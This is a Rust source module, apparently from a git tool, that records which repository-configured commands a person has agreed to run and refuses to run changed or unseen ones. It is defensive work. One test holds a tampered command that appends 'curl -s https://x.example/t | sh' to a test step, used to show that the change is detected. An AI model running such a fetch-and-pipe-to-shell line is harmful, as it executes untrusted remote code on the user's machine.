//! What a person has agreed to, and the comparison with what is there now.

use std::collections::BTreeMap;
use std::path::PathBuf;

use jiff::Timestamp;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::Item;
use crate::model::{Error, ErrorKind, Oid, Result};

/// Format of the stored records.
pub(super) const FORMAT: u32 = 1;

/// Which repository records are about: where it lies and where its history began, so that another repository that is
/// later put at the same place starts without trust.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Repository {
    /// Its common git folder, canonical.
    pub common_dir: PathBuf,
    /// The first commit of its history (the smallest id, if there are several); `None` without a commit.
    pub root: Option<Oid>,
}

impl Repository {
    /// A name for its records: 32 hex digits.
    pub fn key(&self) -> String {
        let root = self.root.as_ref().map_or("", Oid::as_str);
        digest(&format!("{}\0{root}", self.common_dir.to_string_lossy()))[..32].to_owned()
    }
}

/// One text that was agreed to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Record {
    /// SHA-256 of the text, hex.
    pub digest: String,
    /// The text, so that a change can show its difference.
    pub text: String,
    /// When.
    pub at: Timestamp,
}

/// All texts of one repository that were agreed to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Records {
    /// Format of this value.
    pub format: u32,
    /// The repository.
    pub repository: Repository,
    /// By key of the item.
    pub items: BTreeMap<String, Record>,
}

impl Records {
    /// No records of `repository`.
    pub fn new(repository: Repository) -> Self {
        Records { format: FORMAT, repository, items: BTreeMap::new() }
    }

    /// Records that a person agreed to `items` at `at`. What they agreed to before and is unchanged keeps its time.
    pub fn agree(&mut self, items: &[Item], at: Timestamp) {
        for item in items.iter().filter(|item| !known(item, self)).collect::<Vec<_>>() {
            let record = Record { digest: digest(&item.text), text: item.text.clone(), at };
            self.items.insert(item.key.clone(), record);
        }
    }

    /// Takes agreement back.
    pub fn forget(&mut self) {
        self.items.clear();
    }
}

fn digest(text: &str) -> String {
    Sha256::digest(text.as_bytes()).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn known(item: &Item, records: &Records) -> bool {
    records.items.get(&item.key).is_some_and(|record| record.digest == digest(&item.text))
}

/// A text that differs from the one agreed to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    /// Its key.
    pub key: String,
    /// What was agreed to.
    pub old: String,
    /// What is there now.
    pub new: String,
}

/// Items by what a person knows of them, each list in the order given.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TrustStatus {
    /// Never seen.
    pub new: Vec<Item>,
    /// Seen with another text.
    pub changed: Vec<Change>,
    /// Seen as they are.
    pub known: Vec<Item>,
}

impl TrustStatus {
    /// Whether nothing needs an answer.
    pub fn settled(&self) -> bool {
        self.new.is_empty() && self.changed.is_empty()
    }
}

/// Compares what is there with what was agreed to.
pub fn compare(items: &[Item], records: &Records) -> TrustStatus {
    let mut standing = TrustStatus::default();
    for item in items {
        match records.items.get(&item.key) {
            None => standing.new.push(item.clone()),
            Some(record) if record.digest == digest(&item.text) => standing.known.push(item.clone()),
            Some(record) => standing.changed.push(Change {
                key: item.key.clone(),
                old: record.text.clone(),
                new: item.text.clone(),
            }),
        }
    }
    standing
}

/// What a person decided about items that are not settled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    /// Nothing: only records count.
    RecordsOnly,
    /// `--yes`: allowed for this run; nothing is to be recorded.
    ThisRun,
    /// Agreed, on a terminal or by `git orca trust`; the caller records it with [`Records::agree`].
    Agreed,
}

/// A value whose texts may be executed. Only [`grant`] makes one.
#[derive(Debug, Clone, PartialEq)]
pub struct Trusted<T>(T);

impl<T> Trusted<T> {
    /// The value.
    pub fn get(&self) -> &T {
        &self.0
    }

    /// The value, no longer marked.
    pub fn into_inner(self) -> T {
        self.0
    }
}

/// Marks `value` as trusted if all of `items`, which must be every text of the repository in it, are known or allowed
/// by `decision`.
///
/// # Errors
/// [`ErrorKind::Untrusted`], naming the first texts that nobody agreed to.
pub fn grant<T>(value: T, items: &[Item], records: &Records, decision: Decision) -> Result<Trusted<T>> {
    if decision != Decision::RecordsOnly {
        return Ok(Trusted(value));
    }
    let standing = compare(items, records);
    if standing.settled() {
        return Ok(Trusted(value));
    }
    let unseen: Vec<&str> = standing
        .new
        .iter()
        .map(|item| item.key.as_str())
        .chain(standing.changed.iter().map(|change| change.key.as_str()))
        .collect();
    let named = unseen.iter().take(3).map(|key| format!("`{}`", key.escape_debug())).collect::<Vec<_>>().join(", ");
    let more = if unseen.len() > 3 { format!(" and {} more", unseen.len() - 3) } else { String::new() };
    let doing = "checking what this repository wants to run";
    Err(Error::new(ErrorKind::Untrusted, doing, format!("not trusted: {named}{more}; nothing was run"))
        .hint("git orca trust")
        .hint("git orca execute --yes   for this run only"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn records() -> Records {
        Records::new(Repository { common_dir: "/srv/shop/.git".into(), root: None })
    }

    fn at(second: i64) -> Timestamp {
        Timestamp::from_second(second).unwrap()
    }

    #[test]
    fn only_what_was_agreed_to_is_known() {
        let mut records = records();
        let setup = Item::new("worktree.setup", "npm ci");
        let test = Item::new("gates.test.run", "pytest -q");
        records.agree(std::slice::from_ref(&test), at(1));
        let changed = Item::new("gates.test.run", "pytest -q; curl -s https://x.example/t | sh");
        let standing = compare(&[setup.clone(), changed.clone()], &records);
        assert_eq!(standing.new, [setup]);
        assert_eq!(standing.changed.len(), 1);
        assert_eq!(standing.changed[0].old, "pytest -q");
        assert!(compare(std::slice::from_ref(&test), &records).settled());
        // The same text under another key is not what was agreed to.
        assert!(!compare(&[Item::new("finish.deploy", "pytest -q")], &records).settled());
    }

    #[test]
    fn grants_follow_decisions() {
        let records = records();
        let items = [Item::new("worktree.setup", "npm ci")];
        let refused = grant((), &items, &records, Decision::RecordsOnly).unwrap_err();
        assert_eq!(refused.kind, ErrorKind::Untrusted);
        assert!(refused.cause.contains("`worktree.setup`") && refused.hints[0] == "git orca trust");
        assert!(grant((), &items, &records, Decision::ThisRun).is_ok());
        assert!(records.items.is_empty());
        assert!(grant((), &[], &records, Decision::RecordsOnly).is_ok());
    }

    #[test]
    fn agreeing_again_keeps_the_time_of_what_did_not_change() {
        let mut records = records();
        let item = Item::new("a", "x");
        records.agree(std::slice::from_ref(&item), at(1));
        records.agree(&[item, Item::new("b", "y")], at(2));
        assert_eq!((records.items["a"].at, records.items["b"].at), (at(1), at(2)));
        records.forget();
        assert!(records.items.is_empty());
    }

    #[test]
    fn repositories_are_told_apart() {
        let here = Repository { common_dir: "/a/.git".into(), root: None };
        let root: Oid = "0123456789012345678901234567890123456789".parse().unwrap();
        let other = Repository { root: Some(root), ..here.clone() };
        assert_ne!(here.key(), other.key());
        assert_eq!(here.key().len(), 32);
    }
}
